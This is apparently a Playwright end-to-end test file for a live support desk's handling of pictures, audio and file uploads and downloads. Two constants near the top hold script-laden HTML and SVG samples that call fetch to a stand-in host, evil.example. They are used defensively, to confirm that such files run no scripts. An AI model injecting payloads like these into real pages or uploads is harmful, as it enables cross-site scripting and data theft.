"""Stored pictures and files at the desk, in real Chromium against the real server: seen, heard, downloaded, uploaded."""

import asyncio
import contextlib
import io
import re
import time
import wave
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Error, Page, Route, expect

from rasa_handoff.protocol.media_limits import MediaLimits
from rasa_handoff.server.app import ServerSettings
from tests.end_to_end.browser.conftest import Desks, Server
from tests.end_to_end.browser.scripted_relay import Relay
from tests.end_to_end.browser.test_desk import say, take
from tests.end_to_end.browser.test_desk_attachments import PDF, hand_over
from tests.support.photos import photo

pytestmark = pytest.mark.asyncio(loop_scope="session")

UPLOADS = "**/desk/media?*"
HTML = b"<!doctype html><script>document.title = 'run'; fetch('https://evil.example/')</script>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\')"><script>alert(1)</script></svg>'
)


def sound() -> bytes:
    """Return a second of silence, as a WAV file."""
    file = io.BytesIO()
    with wave.open(file, "wb") as written:
        written.setnchannels(1)
        written.setsampwidth(1)
        written.setframerate(8_000)
        written.writeframes(b"\x80" * 8_000)
    return file.getvalue()


async def downloaded(page: Page, part: Any, folder: Path) -> tuple[str, bytes]:
    """Press a file's download, and return its name and content."""
    async with page.expect_download() as coming:
        await part.click()
    download = await coming.value
    await download.save_as(folder / "downloaded")
    return download.suggested_filename, (folder / "downloaded").read_bytes()


class Held:
    """Requests for an address that wait until the test lets them go."""

    def __init__(self) -> None:
        self._free = asyncio.Event()

    async def hold(self, route: Route) -> None:
        await self._free.wait()
        with contextlib.suppress(Error):  # the page has given it up
            await route.continue_()

    def let_go(self) -> None:
        self._free.set()


async def test_a_customers_photo_is_seen_heard_and_downloaded(desks: Desks, relay: Relay, tmp_path: Path) -> None:
    page = (await desks.open("thandi")).page
    handoff = await relay.offer()
    await take(page)
    picture, voice, invoice = [
        await relay.bring(handoff, content, name)
        for content, name in ((photo((640, 480)), "dent.jpg"), (sound(), "note.wav"), (PDF["buffer"], "invoice.pdf"))
    ]
    parts = [
        {"type": kind, "media": media} for kind, media in (("image", picture), ("audio", voice), ("file", invoice))
    ]
    await relay.say(handoff, "[Image: dent.jpg]", *parts)
    message = page.get_by_test_id("message")
    for _ in ("at once", "after a reload"):
        image = message.get_by_test_id("part-image").locator("img")
        await expect(image).to_have_js_property("complete", True)
        await expect(image).not_to_have_js_property("naturalWidth", 0)
        await page.reload()
    await expect(message.locator("audio")).to_have_attribute("src", re.compile("desk/media/"))
    await message.locator("audio").evaluate("sound => { sound.play(); }")  # its promise may never be kept
    await expect(message.locator("audio")).to_have_js_property("duration", 1)
    assert await downloaded(page, message.get_by_test_id("part-file").locator("a"), tmp_path) == (
        "invoice.pdf",
        PDF["buffer"],
    )
    async with page.context.expect_page() as opened:
        await message.locator("a.picture").click()
    assert "/desk/media/" in (await opened.value).url
    assert await (await opened.value).evaluate("window.opener") is None


async def test_a_page_and_a_drawing_with_scripts_do_nothing(desks: Desks, relay: Relay, tmp_path: Path) -> None:
    desk = await desks.open("thandi")
    page, asked = desk.page, []
    page.context.on("request", lambda request: asked.append(request.url))
    handoff = await relay.offer()
    await take(page)
    for content, name in ((HTML, "page.html"), (SVG, "drawing.svg"), (SVG, "drawing.png")):
        media = await relay.bring(handoff, content, name)
        assert media["type"] == "application/octet-stream"
        claimed = {**media, "type": "image/svg+xml"}
        parts = [{"type": kind, "media": one} for kind in ("image", "file") for one in (media, claimed)]
        await relay.say(handoff, name, *parts)
        message = page.get_by_test_id("message").last
        await expect(message.get_by_test_id("part-file")).to_have_count(len(parts))
        link = message.get_by_test_id("part-download").first
        assert (await downloaded(page, link, tmp_path))[1] == content
        address = await link.evaluate("link => link.href")
        other = await page.context.new_page()
        with pytest.raises(Exception, match="Download is starting"):  # also when somebody opens its address
            await other.goto(address)
        await other.close()
    await expect(page).to_have_title("Live desk")
    assert await page.locator("img, iframe, object, embed").count() == 0
    assert not [url for url in asked if not url.startswith(desk.address)]


async def test_an_agent_sends_a_pasted_picture_and_a_dropped_file(desks: Desks, relay: Relay, tmp_path: Path) -> None:
    page = (await desks.open("thandi")).page
    handoff = await relay.offer()
    await take(page)
    pasted = {"name": "image.png", "mimeType": "image/png", "buffer": await page.screenshot()}
    await hand_over(page.get_by_test_id("composer"), "paste", pasted)
    await hand_over(page.get_by_test_id("conversation"), "drop", PDF)
    await expect(page.get_by_test_id("attached")).to_have_count(2)
    await say(page, "Here you are")
    received = await relay.one("message", handoff_id=handoff)
    words, image, file = received["parts"]
    assert (words["text"], image["type"], file["type"]) == ("Here you are", "image", "file")
    assert received["text"] == "Here you are [Image: image.png] [Attachment: invoice.pdf]"
    assert await relay.fetch(file["media"]["id"]) == PDF["buffer"]
    await expect(page.get_by_test_id("unsent")).to_have_count(0)
    message = page.get_by_test_id("message")
    await expect(message.locator("img")).not_to_have_js_property("naturalWidth", 0)
    assert (await downloaded(page, message.get_by_test_id("part-download"), tmp_path))[1] == PDF["buffer"]


async def test_an_upload_can_be_cancelled_and_what_was_written_later_goes_on(desks: Desks, relay: Relay) -> None:
    page, held = (await desks.open("thandi")).page, Held()
    handoff = await relay.offer()
    await take(page)
    await page.route(UPLOADS, held.hold)
    await page.get_by_test_id("attach-input").set_input_files([PDF])  # type: ignore[list-item]
    await say(page, "The wrong one")
    await say(page, "And words")
    await expect(page.get_by_test_id("unsent")).to_have_count(2)
    await expect(page.get_by_test_id("upload").first).to_be_visible()
    await expect(page.get_by_test_id("cancel-upload").last).to_be_hidden()
    assert not relay.all("message")
    await page.get_by_test_id("cancel-upload").first.click()
    await relay.one("message", handoff_id=handoff, text="And words")
    await expect(page.get_by_test_id("unsent")).to_have_count(0)
    held.let_go()
    assert len(relay.all("message")) == 1


async def test_a_file_that_is_on_its_way_survives_a_reload(desks: Desks, relay: Relay) -> None:
    page, held = (await desks.open("thandi")).page, Held()
    handoff = await relay.offer()
    await take(page)
    await page.route(UPLOADS, held.hold)
    await page.get_by_test_id("attach-input").set_input_files([PDF])  # type: ignore[list-item]
    await say(page, "Your invoice")
    await expect(page.get_by_test_id("upload")).to_be_visible()
    await page.unroute(UPLOADS)
    await page.reload()
    received = await relay.one("message", handoff_id=handoff)
    assert await relay.fetch(received["parts"][1]["media"]["id"]) == PDF["buffer"]
    held.let_go()


async def test_a_file_is_sent_when_the_server_is_back(desks: Desks, relay: Relay, server: Server) -> None:
    desk = await desks.open("thandi")
    page = desk.page
    handoff = await relay.offer()
    await take(page)
    await server.stop()
    await page.get_by_test_id("attach-input").set_input_files([PDF])  # type: ignore[list-item]
    await say(page, "Your invoice")
    await expect(page.get_by_test_id("unsent")).to_be_visible()
    await server.start()
    received = await relay.one("message", handoff_id=handoff)
    assert received["parts"][1]["media"]["name"] == "invoice.pdf"
    await expect(page.get_by_test_id("unsent")).to_have_count(0)
    desk.troubles.clear()  # the console tells of the connections that failed


async def test_a_full_media_store_is_told_and_the_file_can_be_sent_again(
    desks: Desks, relay: Relay, server: Server
) -> None:
    desk = await desks.open("thandi")
    page = desk.page
    handoff = await relay.offer()
    await take(page)
    await server.stop()
    server.settings = ServerSettings(media_limits=MediaLimits(total_bytes=10))
    await server.start()
    await desk.ready()
    await page.get_by_test_id("attach-input").set_input_files([PDF])  # type: ignore[list-item]
    await page.get_by_test_id("send").click()
    await expect(page.get_by_test_id("unsent")).to_contain_text("Not sent: There is no room for pictures and files")
    await server.stop()
    server.settings = ServerSettings()
    await server.start()
    await page.get_by_test_id("send-again").click()
    await relay.one("message", handoff_id=handoff)
    await expect(page.get_by_test_id("unsent")).to_have_count(0)
    desk.troubles.clear()  # the console tells of the answer 507, and of the connections that failed


async def test_a_file_that_is_too_large_is_refused_before_it_is_uploaded(desks: Desks, relay: Relay) -> None:
    page = (await desks.open("thandi")).page
    await relay.offer()
    await take(page)
    await page.get_by_test_id("attach-input").evaluate(
        """input => {
            const data = new DataTransfer();
            data.items.add(new File([new Uint8Array(33_000_000)], "film.mp4", {type: "video/mp4"}));
            input.files = data.files;
            input.dispatchEvent(new Event("change"));
        }"""
    )
    await expect(page.get_by_test_id("toast")).to_contain_text("film.mp4 is too large: 32 MB are the most.")
    await expect(page.get_by_test_id("attached")).to_have_count(0)


async def test_an_address_that_has_expired_is_asked_for_anew(
    desks: Desks, relay: Relay, server: Server, tmp_path: Path
) -> None:
    desk = await desks.open("thandi")
    page = desk.page
    handoff = await relay.offer()
    await take(page)
    media = await relay.bring(handoff, PDF["buffer"], "invoice.pdf")
    await relay.say(handoff, "[Attachment: invoice.pdf]", {"type": "file", "media": media})
    link = page.get_by_test_id("part-download")
    await expect(link).to_have_attribute("href", re.compile("^desk/media/"))
    first = await link.evaluate("link => link.href")
    server.ahead += 200_000
    await page.clock.set_fixed_time(time.time() + server.ahead)
    assert (await downloaded(page, link, tmp_path))[1] == PDF["buffer"]
    assert await link.evaluate("link => link.href") != first


async def test_a_file_that_is_not_kept_any_more_is_told_so(desks: Desks, relay: Relay) -> None:
    page = (await desks.open("thandi")).page
    handoff = await relay.offer()
    await take(page)
    media = {"id": "n" * 22, "name": "dent.jpg", "type": "image/jpeg"}
    await relay.say(handoff, "[Image: dent.jpg]", {"type": "image", "media": media})
    await expect(page.get_by_test_id("part-gone")).to_have_text("dent.jpg isn't kept any more")
